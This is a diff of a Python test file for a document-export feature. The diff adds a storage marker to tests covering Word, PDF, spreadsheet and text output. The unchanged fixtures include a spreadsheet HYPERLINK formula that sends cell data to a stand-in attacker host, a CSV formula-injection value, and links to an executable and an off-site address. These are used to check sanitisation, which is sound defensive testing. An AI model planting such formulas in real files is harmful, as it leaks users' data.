@@ -586,6 +586,7 @@ SELECT '![x](y)', a<b
 PLACES = "\n[here](report.exe) [share](//evil.example/x) [m](mailto:a@b.example) [p](#part)\n"
 
 
+@pytest.mark.any_store
 def test_a_word_document_has_headings_lists_tables_and_links(bench: Bench) -> None:
     import docx
 
@@ -605,6 +606,7 @@ def test_a_word_document_has_headings_lists_tables_and_links(bench: Bench) -> No
     assert links == ["https://example.org/"]
 
 
+@pytest.mark.any_store
 def test_a_pdf_has_the_text_and_says_what_it_cannot_show(bench: Bench) -> None:
     import pypdf
 
@@ -615,6 +617,7 @@ def test_a_pdf_has_the_text_and_says_what_it_cannot_show(bench: Bench) -> None:
     assert "1 character (🙂) is not in the PDF's fonts" in made.notes[0]
 
 
+@pytest.mark.any_store
 def test_a_workbook_has_types_and_no_formula(bench: Bench) -> None:
     import openpyxl
 
@@ -630,6 +633,7 @@ def test_a_workbook_has_types_and_no_formula(bench: Bench) -> None:
     assert bench.session.documents.export(bench.newest.id, "csv-raw").data.decode() == content
 
 
+@pytest.mark.any_store
 def test_a_sheet_leaves_without_formulas_and_raw_only_by_choice(bench: Bench) -> None:
     link = '"=HYPERLINK(""https://evil.example/?d=""&A1,""total"")"'
     content = f'name,note\nAnna,{link}\n-5,"a\n=b"\n@SUM(A1),ok\n'
@@ -645,6 +649,7 @@ def test_a_sheet_leaves_without_formulas_and_raw_only_by_choice(bench: Bench) ->
     assert bench.session.files.leaving(made.file_id) == safe.data
 
 
+@pytest.mark.any_store
 def test_a_text_leaves_without_pictures_html_and_forbidden_links(bench: Bench) -> None:
     """What it says in Leaf stays what was written."""
     bench.run("create_document", {"title": "Live", "content": LIVE})
@@ -662,6 +667,7 @@ def test_a_text_leaves_without_pictures_html_and_forbidden_links(bench: Bench) -
     assert bench.session.documents.content(made) == LIVE
 
 
+@pytest.mark.any_store
 def test_links_of_a_document_in_word_and_pdf_lead_to_the_web_or_to_mail(bench: Bench) -> None:
     import docx
     import pypdf
@@ -675,6 +681,7 @@ def test_links_of_a_document_in_word_and_pdf_lead_to_the_web_or_to_mail(bench: B
     assert {note["/A"].get("/URI") for note in notes} == links
 
 
+@pytest.mark.any_store
 def test_code_and_plain_text_leave_as_they_were_written(bench: Bench) -> None:
     page = "<img src='https://a.example/a.png'>\n=1+1\n"
     for name in ("page.html", "notes.txt"):
@@ -698,6 +705,7 @@ def test_cells_that_are_no_plain_numbers_stay_text(value: str, typed: object) ->
     assert convert(value) == typed
 
 
+@pytest.mark.any_store
 @pytest.mark.parametrize(
     "text", ["> " * 3_000 + "x", "*a " * 20_000, "[" * 20_000, "word " * 100_000, "x" * 100_000]
 )
